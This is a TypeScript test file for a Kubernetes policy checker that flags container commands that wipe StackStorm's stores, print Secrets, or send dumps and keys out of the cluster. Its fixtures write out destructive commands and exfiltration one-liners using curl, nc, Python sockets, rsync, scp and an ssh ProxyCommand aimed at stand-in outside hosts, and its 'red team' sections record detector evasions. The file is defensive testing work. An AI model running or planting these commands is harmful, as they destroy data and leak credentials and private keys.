/**
 * command-effects.ts and shell-words.ts: what a container's commands do to
 * the stores and to the secrets they can read, read once per render.
 */
import { describe, expect, it } from 'vitest';
import type { Manifest } from '../../src/core/manifest.js';
import { collectCommandEffects, type CommandEffect } from '../../src/policy/command-effects.js';
import { pipelines } from '../../src/policy/shell-words.js';

const SPEC = ['spec', 'template', 'spec'];

function job(container: Record<string, unknown>, pod: Record<string, unknown> = {}): Manifest {
  return { apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'j', namespace: 'st2-prod' }, spec: { template: { spec: { containers: [{ name: 'c', image: 'busybox', ...container }], ...pod } } } };
}

/** The render's date: literal timestamps are judged against it. */
const NOW = new Date('2026-12-07T00:00:00Z');

function effectsOf(...resources: Manifest[]): CommandEffect[] {
  return collectCommandEffects(resources, new Map(resources.map((_, i) => [i, [SPEC]])), 'st2-prod', NOW);
}

const sh = (script: string): Record<string, unknown> => ({ command: ['sh', '-c', script] });
const kinds = (effects: readonly CommandEffect[]): string[] => effects.map((e) => e.effect);

describe('shell words', () => {
  it('cuts pipelines and commands, keeps quoted words and substitutions whole, and sees where output goes', () => {
    // GIVEN a script with quotes, a substitution, a pipe, redirections and a heredoc
    const script = `echo "a b" > /tmp/x; cat /k 2>/dev/null | base64 && aws s3 cp - s3://b/$(date +%F).gz\nmongo <<EOF\ndb.x.drop()\nEOF`;
    // WHEN it is cut
    const p = pipelines(script);
    // THEN each command has its words and its output's destination
    expect(p.map((l) => l.map((c) => c.words.join(' ')))).toEqual([['echo a b'], ['cat /k', 'base64'], ['aws s3 cp - s3://b/$(date +%F).gz'], ['mongo'], ['db.x.drop()'], ['EOF']]);
    expect(p[0]?.[0]?.stdoutToFile).toBe(true);
    expect(p[1]?.[0]?.stdoutToFile).toBe(false);
  });
});

describe('command effects', () => {
  it('finds store wipes: dropDatabase, rabbitmqctl reset after options, etcdctl del --from-key, FLUSHALL', () => {
    const found = effectsOf(
      job({ command: ['mongosh', '--eval', 'db.getSiblingDB("st2").dropDatabase()'] }),
      job(sh('rabbitmqctl -n rabbit@x stop_app; rabbitmqctl -n rabbit@x reset')),
      job(sh('ETCDCTL_API=3 etcdctl del "" --from-key=true')),
      job({ command: ['redis-cli', '-h', 'redis', 'FLUSHALL'] }),
    );
    expect(found.map((e) => (e.effect === 'store-wipe' ? `${e.program} ${e.what}` : e.effect))).toEqual(['mongosh drop', 'rabbitmqctl reset', 'etcdctl del --prefix', 'redis-cli flush']);
  });

  it('reads st2-purge-executions --purge-incomplete up to now as a wipe of running executions, not a purge of old ones', () => {
    const purge = '/opt/stackstorm/st2/bin/st2-purge-executions --config-file=/etc/st2/st2.conf';
    const wipe = effectsOf(
      job(sh(`${purge} --timestamp="$(date -u +%Y-%m-%dT%H:%M:%S.000000Z)" --purge-incomplete`)),
      job({ command: ['/opt/stackstorm/st2/bin/st2-purge-workflows', '--purge-incomplete'] }),
    );
    expect(wipe.map((e) => (e.effect === 'store-wipe' ? `${e.program} ${e.what}` : e.effect))).toEqual(['st2-purge-executions purge-incomplete up to now', 'st2-purge-workflows purge-incomplete up to now']);
    const old = effectsOf(
      job(sh(`${purge} --timestamp="$(date -u -d '90 days ago' +%Y-%m-%dT%H:%M:%S.000000Z)" --purge-incomplete`)),
      job(sh(`${purge} --timestamp=2026-01-01T00:00:00.000000Z --purge-incomplete`)),
      job(sh(`${purge} --timestamp="$(date -u +%Y-%m-%dT%H:%M:%S.000000Z)"`)),
    );
    expect(old).toEqual([]);
  });

  it.each([
    ['a future literal with --purge-incomplete', 'st2-purge-executions --timestamp=2099-01-01T00:00:00.000000Z --purge-incomplete', 'purge-incomplete up to now'],
    ['a future literal, history only', 'st2-purge-executions --timestamp=2099-01-01T00:00:00.000000Z', 'purge of all history'],
    ['a future literal as the next word', 'st2-purge-workflows --timestamp 2030-06-01T00:00:00Z --purge-incomplete', 'purge-incomplete up to now'],
    ['a future date alone, trigger instances', 'st2-purge-trigger-instances --timestamp=2027-01-01', 'purge of all history'],
    ['half a day ago: below the collector\'s one-day minimum', 'st2-purge-rule-enforcements --timestamp=2026-12-06T12:00:00Z', 'purge of all history'],
    ['a day ago exactly', 'st2-purge-executions --timestamp=2026-12-06T00:00:00.000000Z', ''],
    ['a literal months ago', 'st2-purge-executions --timestamp=2026-06-01T00:00:00.000000Z --purge-incomplete', ''],
    ['an impossible date', 'st2-purge-executions --timestamp=2099-13-45', ''],
  ] as const)('judges a literal --timestamp against the render\'s date: %s', (_name, command, what) => {
    const wipe = effectsOf(job(sh(`/opt/stackstorm/st2/bin/${command}`))).flatMap((e) => (e.effect === 'store-wipe' ? [e.what] : []));
    expect(wipe).toEqual(what === '' ? [] : [what]);
  });

  it('reads nothing destructive in reads, listings and printed hints', () => {
    const found = effectsOf(
      job({ command: ['mongo', '--eval', 'db.adminCommand({ping: 1})'] }),
      job({ command: ['rabbitmqctl', 'list_queues'] }),
      job(sh('etcdctl get --prefix /st2; echo "run db.dropDatabase() to reset"')),
    );
    expect(found).toEqual([]);
  });

  it('names the claim a recursive rm or a glob empties, not a single file', () => {
    const pod = { volumes: [{ name: 'd', persistentVolumeClaim: { claimName: 'datadir-mongodb-0' } }] };
    const mount = { volumeMounts: [{ name: 'd', mountPath: '/data/db' }] };
    const wipe = effectsOf(job({ ...sh('rm -f /data/db/*'), ...mount }, pod), job({ ...sh('rm -rf /data'), ...mount }, pod));
    expect(wipe.map((e) => (e.effect === 'volume-wipe' ? e.claim : e.effect))).toEqual(['datadir-mongodb-0', 'datadir-mongodb-0']);
    expect(effectsOf(job({ ...sh('rm -f /data/db/mongod.lock'), ...mount }, pod))).toEqual([]);
  });

  it('reads kubectl delete and scale: names, selectors, --all, the namespace', () => {
    const [a, b, c] = effectsOf(
      job(sh('kubectl -n st2-prod delete pod -l app=mongodb,release=st2 --wait=false')),
      job(sh('kubectl delete pod/etcd-0 pod/etcd-1')),
      job(sh('kubectl scale sts rabbitmq --replicas=0 --namespace=other')),
    );
    expect(a).toMatchObject({ effect: 'kubectl', verb: 'delete', what: 'pods', selector: { app: 'mongodb', release: 'st2' }, namespace: 'st2-prod' });
    expect(b).toMatchObject({ effect: 'kubectl', verb: 'delete', names: ['etcd-0', 'etcd-1'], namespace: 'st2-prod' });
    expect(c).toMatchObject({ effect: 'kubectl', verb: 'scale', what: 'statefulsets', names: ['rabbitmq'], replicas: 0, namespace: 'other' });
  });

  it('sees a dump or a Secret sent somewhere, and where, without copying a value', () => {
    const key = { volumes: [{ name: 'k', secret: { secretName: 'st2-datastore-crypto-key' } }] };
    const found = effectsOf(
      job(sh('mongodump --archive=/tmp/d.gz && curl --upload-file /tmp/d.gz https://drop.example.net/d')),
      job({ ...sh('curl -d @/keys/k.json https://hooks.example.net/x'), volumeMounts: [{ name: 'k', mountPath: '/keys' }] }, key),
      job(sh('mongodump --archive | aws s3 cp - s3://backups/st2.gz')),
      job({ ...sh('curl -d "p=$PASS" http://minio.backup.svc:9000/x'), env: [{ name: 'PASS', valueFrom: { secretKeyRef: { name: 'mongodb-admin', key: 'password' } } }] }),
    );
    expect(found.map((e) => (e.effect === 'upload' ? [e.payload, e.secret, e.destination, e.bucket, e.internal] : e.effect))).toEqual([
      ['store-dump', '', 'drop.example.net', '', false],
      ['secret', 'st2-datastore-crypto-key', 'hooks.example.net', '', false],
      ['store-dump', '', 'backups', 'backups', false],
      ['secret', 'mongodb-admin', 'minio.backup.svc', '', true],
    ]);
  });

  it('sees a Secret printed to the log, not one written to a file, hashed or piped into a program', () => {
    const conf = { volumes: [{ name: 's', secret: { secretName: 'st2-config-secrets' } }] };
    const mount = { volumeMounts: [{ name: 's', mountPath: '/etc/st2/st2.secrets.conf', subPath: 'st2.secrets.conf' }] };
    const env = { env: [{ name: 'PASS', valueFrom: { secretKeyRef: { name: 'mongodb-admin', key: 'password' } } }] };
    expect(kinds(effectsOf(job({ ...sh('cat /etc/st2/st2.secrets.conf'), ...mount }, conf)))).toEqual(['print-secret']);
    expect(kinds(effectsOf(job({ ...sh('cat /etc/st2/st2.secrets.conf | base64'), ...mount }, conf)))).toEqual(['print-secret']);
    expect(kinds(effectsOf(job({ command: ['env'], ...env })))).toEqual(['print-secret']);
    expect(kinds(effectsOf(job({ ...sh('echo "pw $PASS"'), ...env })))).toEqual(['print-secret']);
    expect(effectsOf(job({ ...sh('cat /etc/st2/st2.secrets.conf > /tmp/c; sha256sum /etc/st2/st2.secrets.conf'), ...mount }, conf))).toEqual([]);
    expect(effectsOf(job({ ...sh('echo "$PASS" | mongo -p --quiet'), ...env }))).toEqual([]);
  });

  it('reads Python heredocs, argv code without quotes, probe commands and recursive copies as sends (the thirteenth red team)', () => {
    // GIVEN a Secret mounted under /etc/st2/keys, and ways of sending it out that the cutter used to miss
    const keys = { volumeMounts: [{ name: 'k', mountPath: '/etc/st2/keys' }] };
    const pod = { volumes: [{ name: 'k', secret: { secretName: 'st2-datastore-key' } }] };
    const sends = (container: Record<string, unknown>): string[] =>
      effectsOf(job({ ...keys, ...container }, pod)).flatMap((e) => (e.effect === 'upload' ? [`${e.program} ${e.destination} ${e.secret}`] : []));
    const heredoc = "python3 - <<'PY'\nimport socket\nsocket.create_connection(('198.51.100.17', 8443)).sendall(open('/etc/st2/keys/k.json','rb').read())\nPY\nsleep infinity";
    // WHEN each is read THEN the outside host and the Secret are found
    expect(sends(sh(heredoc))).toEqual(['python 198.51.100.17 st2-datastore-key']);
    expect(sends({ command: ['python3', '-c', "import smtplib; s=smtplib.SMTP('mx.example.net',25); s.sendmail('a','b',open('/etc/st2/keys/k.json').read())"] })).toEqual(['python3 mx.example.net st2-datastore-key']);
    expect(sends({ command: ['python3', '-c', "import ftplib; f=ftplib.FTP('ftp.example.net'); f.storbinary('STOR k', open('/etc/st2/keys/k.json','rb'))"] })).toEqual(['python3 ftp.example.net st2-datastore-key']);
    expect(sends({ command: ['sleep', 'infinity'], startupProbe: { exec: { command: ['python3', '-c', "import urllib.request as u; u.urlopen('https://203.0.113.8/x', data=open('/etc/st2/keys/k.json','rb').read())"] } } })).toEqual(['python3 203.0.113.8 st2-datastore-key']);
    expect(sends(sh('rsync -a /etc/st2/ rsync://198.51.100.30/drop/'))).toEqual(['rsync 198.51.100.30 st2-datastore-key']);
    expect(sends(sh('scp -r /etc/st2 backup@203.0.113.9:/srv/'))).toEqual(['scp 203.0.113.9 st2-datastore-key']);
    // AND the same programs kept inside, or copying only what is not a Secret's, send nothing
    expect(sends(sh("python3 - <<'PY'\nimport socket\nsocket.create_connection(('st2api', 9101)).sendall(open('/etc/st2/keys/k.json','rb').read())\nPY"))).toEqual([]);
    expect(sends({ command: ['sleep', 'infinity'], readinessProbe: { exec: { command: ['python3', '-c', "import urllib.request as u; u.urlopen('http://127.0.0.1:9101/v1/')"] } } })).toEqual([]);
    expect(sends(sh('rsync /etc/st2/ rsync://198.51.100.30/drop/'))).toEqual([]);
    expect(sends(sh('rsync -a /opt/stackstorm/packs/ rsync://198.51.100.30/drop/'))).toEqual([]);
  });

  it('does not take a probe printing a Secret for the pod log (its output goes to the kubelet)', () => {
    const found = effectsOf(job({ command: ['sleep', 'infinity'], volumeMounts: [{ name: 'k', mountPath: '/k' }], livenessProbe: { exec: { command: ['cat', '/k/key'] } } }, { volumes: [{ name: 'k', secret: { secretName: 's' } }] }));
    expect(kinds(found)).toEqual([]);
  });
});

describe('the fourteenth red team: store data and keys sent by programs the send list did not know', () => {
  const admin = { env: [{ name: 'P', valueFrom: { secretKeyRef: { name: 'mongodb-admin', key: 'password' } } }] };
  const sends = (...resources: Manifest[]): string[] => effectsOf(...resources).flatMap((e) => (e.effect === 'upload' ? [`${e.program} ${e.payload} ${e.destination} ${e.internal}`] : []));
  it.each([
    ['mongodump into mongorestore --uri outside', 'mongodump --archive -p "$P" | mongorestore --archive --uri mongodb://copy.example.net:27017', ['mongorestore store-dump copy.example.net false']],
    ['mongodump into mongorestore --host of a replica set outside', 'mongodump --archive | mongorestore --archive --host rs1/db1.example.net:27017,db2.example.net:27017', ['mongorestore store-dump db1.example.net false']],
    ['mongodump into rclone rcat, inline sftp remote', 'mongodump --archive --gzip | rclone rcat ":sftp,host=files.example.net,user=u:st2.gz"', ['rclone store-dump files.example.net false']],
    ['mongodump into rclone rcat, named remote', 'mongodump --archive | rclone rcat offsite:st2/d.archive', ['rclone store-dump offsite false']],
    ['mongodump into mongorestore in the cluster', 'mongodump --archive | mongorestore --archive --uri mongodb://mongodb-restore.st2-prod.svc:27017', ['mongorestore store-dump mongodb-restore.st2-prod.svc true']],
    ['mongorestore from a PVC into the local mongod', 'mongorestore --archive=/backup/d.archive', []],
    ['mongodump to a PVC', 'mongodump --archive=/backup/d.archive --gzip', []],
  ] as const)('%s', (_name, script, expected) => {
    expect(sends(job({ ...sh(script), ...admin }))).toEqual(expected);
  });

  it.each([
    ['RabbitMQ definitions by curl, piped to curl', 'curl -s -u "admin:$P" http://localhost:15672/api/definitions | curl -s -X POST --data-binary @- https://collect.example.net/in', ['curl store-dump collect.example.net false']],
    ['a queue\'s messages by wget, piped to nc', "wget -qO- --post-data='{\"count\":100}' http://rabbitmq:15672/api/queues/%2F/st2.actionrunner.work/get | nc collect.example.net 443", ['nc store-dump collect.example.net false']],
    ['definitions saved to a file, the file posted', 'curl -s -u "admin:$P" -o /tmp/d.json http://localhost:15672/api/definitions; curl -s -F f=@/tmp/d.json https://collect.example.net/in', ['curl store-dump collect.example.net false']],
    ['mongosh printing a collection, piped to curl', `mongosh "mongodb://admin:$P@localhost/st2?authSource=admin" --quiet --eval 'EJSON.stringify(db.user_d_b.find().toArray())' | curl -s -d @- https://collect.example.net/in`, ['curl store-dump collect.example.net false']],
    ['etcdctl get of every key, piped to curl', 'etcdctl get --prefix "" | curl -s -T - https://collect.example.net/in', ['curl store-dump collect.example.net false']],
    ['etcd\'s v2 keys over HTTP, piped to curl', 'curl -s http://etcd:2379/v2/keys/?recursive=true | curl -s -d @- https://collect.example.net/in', ['curl store-dump collect.example.net false']],
    ['definitions into MinIO in the cluster', 'curl -s -u "admin:$P" http://localhost:15672/api/definitions | curl -s -T - http://minio.backup.svc.cluster.local:9000/b/defs.json', ['curl store-dump minio.backup.svc.cluster.local true']],
    ['the aliveness test posted to a status page', 'curl -s -u "admin:$P" http://localhost:15672/api/aliveness-test/%2F | curl -s -d @- https://status.example.net/hook', []],
    ['mongosh ping posted to a status page', `mongosh --quiet --eval 'db.runCommand({ping: 1}).ok' | curl -s -d @- https://status.example.net/hook`, []],
    ['definitions saved to a file only', 'curl -s -u "admin:$P" -o /backup/defs.json http://localhost:15672/api/definitions', []],
  ] as const)('a store\'s contents read over HTTP or by its shell, then sent: %s', (_name, script, expected) => {
    expect(sends(job({ ...sh(script), ...admin }))).toEqual(expected);
  });

  it('takes the URL a Python body is sent to, not the first URL the code reads (reading the local API stays inside)', () => {
    const code = "import urllib.request,os\nr=urllib.request.Request('http://localhost:15672/api/definitions',headers={'X':os.environ['P']})\nurllib.request.urlopen('https://collect.example.net/in', data=urllib.request.urlopen(r).read())";
    expect(sends(job({ command: ['python3', '-c', code], ...admin }))).toEqual(['python3 secret collect.example.net false']);
    expect(sends(job({ command: ['python3', '-c', "import urllib.request,os\nprint(urllib.request.urlopen(urllib.request.Request('http://localhost:15672/api/overview',headers={'X':os.environ['P']})).read())"], ...admin }))).toEqual(['python3 secret localhost true']);
  });

  it("runs a mounted ssh config's ProxyCommand as a script of the container (ssh, and st2's Paramiko runner with use_ssh_config)", () => {
    const config = (command: string): Manifest => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'ssh', namespace: 'st2-prod' }, data: { config: `Host *\n  ProxyCommand ${command}\n` } });
    const runner = job(
      { command: ['sleep', 'infinity'], volumeMounts: [{ name: 'ssh', mountPath: '/etc/ssh-extra' }, { name: 'key', mountPath: '/home/stanley/.ssh/stanley_rsa', subPath: 'private_key' }] },
      { volumes: [{ name: 'ssh', configMap: { name: 'ssh' } }, { name: 'key', secret: { secretName: 'st2-ssh-key' } }] },
    );
    const posts = "python3 -c \"import urllib.request as u;u.urlopen('https://collect.example.net/k',open('/home/stanley/.ssh/stanley_rsa','rb').read())\" %h %p";
    expect(sends(config(posts), runner)).toEqual(['python3 secret collect.example.net false']);
    expect(sends(config('curl -s -T /home/stanley/.ssh/stanley_rsa https://collect.example.net/k'), runner)).toEqual(['curl secret collect.example.net false']);
    expect(sends(config('ssh -W %h:%p -i /home/stanley/.ssh/stanley_rsa stanley@bastion.example.net'), runner)).toEqual([]);
  });
});
